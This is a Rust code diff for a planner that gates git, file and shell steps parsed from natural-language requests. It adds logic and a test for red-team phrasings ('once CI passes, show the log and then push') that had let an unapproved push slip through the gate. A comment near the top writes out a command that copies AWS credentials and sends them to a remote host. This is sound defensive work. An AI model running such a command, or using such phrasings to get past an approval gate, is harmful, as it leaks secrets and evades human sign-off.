@@ -99,6 +99,25 @@ pub fn plan(request: &str, router: &mut route::Router) -> Plan {
             }
         })
         .collect::<Vec<Step>>();
+    // "once CI passes, show the log and then push": a clause the first step kept,
+    // which says no, waits or sets a condition nothing checks, holds the steps after
+    // it that change something. The request is read whole, as one that takes itself
+    // back is.
+    let held = !whole
+        && steps.len() > 1
+        && opens_held(&steps[0].text)
+        && steps[1..].iter().any(|s| !s.route.action.only_reads());
+    let steps = if held {
+        let text = text::plain_quotes(&tidy).trim().to_string();
+        let route = router.route(&text);
+        vec![Step {
+            text,
+            route,
+            judged: None,
+        }]
+    } else {
+        steps
+    };
     // "cp ~/.aws/credentials c.txt && scp c.txt host:": steps harmless one by one
     // can be harmful together. The whole request is gated as it would be as one step.
     let mut steps = steps;
@@ -1922,6 +1941,43 @@ fn conditions(request: &str) -> Cow<'_, str> {
     conditions_after(request, false)
 }
 
+/// Whether a step opens with a clause that says no, waits or sets a condition this
+/// tool cannot check ("once CI passes, show the log", "still waiting on Tom, show
+/// status", "Tom hasn't approved it, display the log", "I would never, show the log"):
+/// the steps after it are held too (see `plan`). A check the plan runs first ("if the
+/// tests pass, …") and politeness ("if you can, …") hold nothing.
+fn opens_held(request: &str) -> bool {
+    let unquoted = text::unquoted(request);
+    static CUT: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"[,:;.!?]\s|\s[-–—]\s").expect("the clause-end pattern is a valid regex")
+    });
+    let Some(cut) = CUT.find(&unquoted) else {
+        return false;
+    };
+    let clause = &unquoted[..cut.start()];
+    static POLITE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)^\s*(?:(?:if|when)\s+(?:you|u|ya)\s+(?:can|could|get\s+a\s+(?:chance|moment|minute|sec)|have\s+(?:a\s+)?(?:time|moment|minute|sec|second|chance)|don'?t\s+mind|want|like|please)|if\s+possible|if\s+that'?s\s+(?:ok|okay|alright|fine))\W*$")
+            .expect("the polite-condition pattern is a valid regex")
+    });
+    // A heading ("Before my PR review, please: 1. pull …") or a question of its own
+    // ("what does it mean when git says …? after you explain, …") holds nothing.
+    if cut.as_str().starts_with([':', '?']) {
+        return false;
+    }
+    let (asked, _) = text::core(clause);
+    !asked.trim().is_empty()
+        // A clause that is a step itself ("create branch x (don't switch to it), then
+        // push", "once you've shown me the status, add src/", "if npm test passes") is
+        // the plan's to split.
+        && placed(clause).is_none()
+        && !POLITE.is_match(clause)
+        && !checks(clause)
+        // "if the tests pass, …": the check the plan runs first (see `conditions_after`);
+        // not "if CI is green", which it cannot run.
+        && (!CONDITION.is_match(&format!(" {clause}")) || regex_word(clause, "ci"))
+        && (crate::route::says_no_or_waits(clause) || rules::conditions_or_defers(clause))
+}
+
 /// Whether a step checks something a condition after it can speak of: tests, a
 /// build, a linter ("run the tests", "npm test", "pytest tests/unit", "make").
 fn checks(step: &str) -> bool {
@@ -2011,18 +2067,21 @@ fn last_piece(before: &str) -> &str {
     .map_or(before, |at| &before[at..])
 }
 
+const OUTCOME: &str = r"(?:pass(?:es|ed)?|succeeds?|succeeded|works?|worked|builds?|compiles?|goes\s+through|went\s+through|comes?\s+back\s+(?:clean|green|ok)|(?:(?:is|are)\s+)?(?:still\s+)?(?:ok|okay|green|fine|good|clean|passing)|looks?\s+(?:ok|okay|fine|good|right|clean))";
+const SUBJECT: &str = r"(?:both(?:\s+of\s+them)?|they(?:'re|\s+are)?|it(?:'s|s|\s+is)?|that(?:'s|\s+is)?|this|ever?y?thing(?:'s)?|all|those|(?:the\s+)?(?:tests?|build|checks?|linter|lint|suite|ci))";
+// "if nothing breaks", "if no tests fail", "if it doesn't fail".
+const NOTHING_FAILS: &str = r"(?:nothing|no\s+(?:tests?|errors?|checks?)|none\s+of\s+them)\s+(?:breaks?|broke|fails?|failed|goes\s+wrong|went\s+wrong|blows\s+up|explodes|complains?|complained)|there\s+(?:are|were)\s+no\s+(?:errors?|failures?)|(?:they|it|that)\s+(?:doesn't|does\s+not|don't|do\s+not|didn't|did\s+not)\s+(?:fail|break|error(?:\s+out)?|blow\s+up)";
+
+/// A condition on a check the plan runs ("if the tests pass", "wenn alles grün ist").
+static CONDITION: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&format!(
+        r"(?i)(?:,|;)?\s+(?:and\s+)?(?:only\s+)?if\s+(?:{SUBJECT}\s+(?:all\s+)?{OUTCOME}|{NOTHING_FAILS}|(?:(?:is|are)\s+)?(?:all\s+)?(?:green|ok|okay|good|clean|passing|successful))\b,?(?:\s+then\b)?|(?:,|\s)\s*(?:und\s+)?(?:nur\s+)?(?:wenn|falls)\s+(?:grün|gruen|ok|okay)\b,?|(?:,|\s)\s*(?:und\s+)?(?:nur\s+)?(?:wenn|falls)\s+(?:sie|es|das|alles|die\s+tests|der\s+build)\s+(?:alle\s+)?(?:bestehen|besteht|durchlaufen|durchläuft|klappen|klappt|passt|passen|funktioniert|grün\s+(?:sind|ist)|ok\s+(?:sind|ist))\b,?|(?:,|\s)\s*(?:y\s+)?(?:solo\s+)?si\s+(?:pasan|pasa|funciona|funcionan|no\s+hay\s+(?:errores|fallos)|todo\s+va\s+bien|todo\s+(?:pasa|funciona|sale\s+bien|compila)|compila|(?:los\s+tests|las\s+pruebas)\s+pasan|(?:está|esta|están|estan)\s+(?:bien|en\s+verde))\b,?|(?:,|\s)\s*(?:e\s+)?(?:solo\s+|só\s+)?se\s+(?:tudo\s+|tutto\s+)?(?:passa|passano|passar|passarem|funziona|funzionano|funcionar|va\s+bene|(?:i\s+test|os\s+testes)\s+(?:passano|passarem))\b,?|(?:,|\s)\s*(?:et\s+)?(?:seulement\s+)?(?:s'?(?:ils?|elles?|tout)|si\s+(?:tout|ça|ca|les\s+tests))\s+(?:passent|passe|réussissent|reussissent|réussit|reussit|marche|marchent|fonctionne|fonctionnent|va\s+bien|compile|compilent|est\s+vert|sont\s+verts)\b,?"
+    ))
+    .expect("the condition pattern is a valid regex")
+});
+
 /// `conditions`, where `checked` says a step that checks came before the request.
 fn conditions_after(request: &str, checked: bool) -> Cow<'_, str> {
-    const OUTCOME: &str = r"(?:pass(?:es|ed)?|succeeds?|succeeded|works?|worked|builds?|compiles?|goes\s+through|went\s+through|comes?\s+back\s+(?:clean|green|ok)|(?:(?:is|are)\s+)?(?:still\s+)?(?:ok|okay|green|fine|good|clean|passing)|looks?\s+(?:ok|okay|fine|good|right|clean))";
-    const SUBJECT: &str = r"(?:both(?:\s+of\s+them)?|they(?:'re|\s+are)?|it(?:'s|s|\s+is)?|that(?:'s|\s+is)?|this|ever?y?thing(?:'s)?|all|those|(?:the\s+)?(?:tests?|build|checks?|linter|lint|suite|ci))";
-    // "if nothing breaks", "if no tests fail", "if it doesn't fail".
-    const NOTHING_FAILS: &str = r"(?:nothing|no\s+(?:tests?|errors?|checks?)|none\s+of\s+them)\s+(?:breaks?|broke|fails?|failed|goes\s+wrong|went\s+wrong|blows\s+up|explodes|complains?|complained)|there\s+(?:are|were)\s+no\s+(?:errors?|failures?)|(?:they|it|that)\s+(?:doesn't|does\s+not|don't|do\s+not|didn't|did\s+not)\s+(?:fail|break|error(?:\s+out)?|blow\s+up)";
-    static CONDITION: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(&format!(
-            r"(?i)(?:,|;)?\s+(?:and\s+)?(?:only\s+)?if\s+(?:{SUBJECT}\s+(?:all\s+)?{OUTCOME}|{NOTHING_FAILS}|(?:(?:is|are)\s+)?(?:all\s+)?(?:green|ok|okay|good|clean|passing|successful))\b,?(?:\s+then\b)?|(?:,|\s)\s*(?:und\s+)?(?:nur\s+)?(?:wenn|falls)\s+(?:grün|gruen|ok|okay)\b,?|(?:,|\s)\s*(?:und\s+)?(?:nur\s+)?(?:wenn|falls)\s+(?:sie|es|das|alles|die\s+tests|der\s+build)\s+(?:alle\s+)?(?:bestehen|besteht|durchlaufen|durchläuft|klappen|klappt|passt|passen|funktioniert|grün\s+(?:sind|ist)|ok\s+(?:sind|ist))\b,?|(?:,|\s)\s*(?:y\s+)?(?:solo\s+)?si\s+(?:pasan|pasa|funciona|funcionan|no\s+hay\s+(?:errores|fallos)|todo\s+va\s+bien|todo\s+(?:pasa|funciona|sale\s+bien|compila)|compila|(?:los\s+tests|las\s+pruebas)\s+pasan|(?:está|esta|están|estan)\s+(?:bien|en\s+verde))\b,?|(?:,|\s)\s*(?:e\s+)?(?:solo\s+|só\s+)?se\s+(?:tudo\s+|tutto\s+)?(?:passa|passano|passar|passarem|funziona|funzionano|funcionar|va\s+bene|(?:i\s+test|os\s+testes)\s+(?:passano|passarem))\b,?|(?:,|\s)\s*(?:et\s+)?(?:seulement\s+)?(?:s'?(?:ils?|elles?|tout)|si\s+(?:tout|ça|ca|les\s+tests))\s+(?:passent|passe|réussissent|reussissent|réussit|reussit|marche|marchent|fonctionne|fonctionnent|va\s+bien|compile|compilent|est\s+vert|sont\s+verts)\b,?"
-        ))
-        .expect("the condition pattern is a valid regex")
-    });
     // "push only if `cargo test` passes", "only push if pytest comes back clean": the
     // check named, then the step.
     static NAMED: LazyLock<Regex> = LazyLock::new(|| {
@@ -3001,6 +3060,38 @@ mod tests {
             split("please do: 1) git status 2) show the log"),
             vec!["git status", "show the log"]
         );
+    }
+
+    #[test]
+    fn a_clause_that_waits_or_says_no_before_the_first_step_holds_the_steps_after_it() {
+        // Found by the eighth attacker review: the clause stayed with the first step,
+        // which only showed something, and the push after it ran.
+        for request in [
+            "once CI passes, show the log and then push",
+            "still waiting on Tom, show status then push",
+            "Tom hasn't approved it, display the log and push",
+            "I would never, show the log and push",
+            "no clue whether it builds, show the diff then delete old.py",
+        ] {
+            let plan = plan_of(request);
+            assert!(
+                plan.steps.iter().all(|s| s.route.action.only_reads()
+                    || !matches!(
+                        s.route.action,
+                        Action::Git { .. } | Action::File { .. } | Action::Shell { .. }
+                    )),
+                "{request}: {:?}",
+                plan.steps
+            );
+        }
+        // A check the plan runs first holds nothing.
+        let checked = plan_of("if the tests pass, show the log and then push");
+        let actions: Vec<&str> = checked
+            .steps
+            .iter()
+            .map(|s| s.route.action.name())
+            .collect();
+        assert_eq!(actions, ["run", "log", "push"]);
     }
 
     #[test]
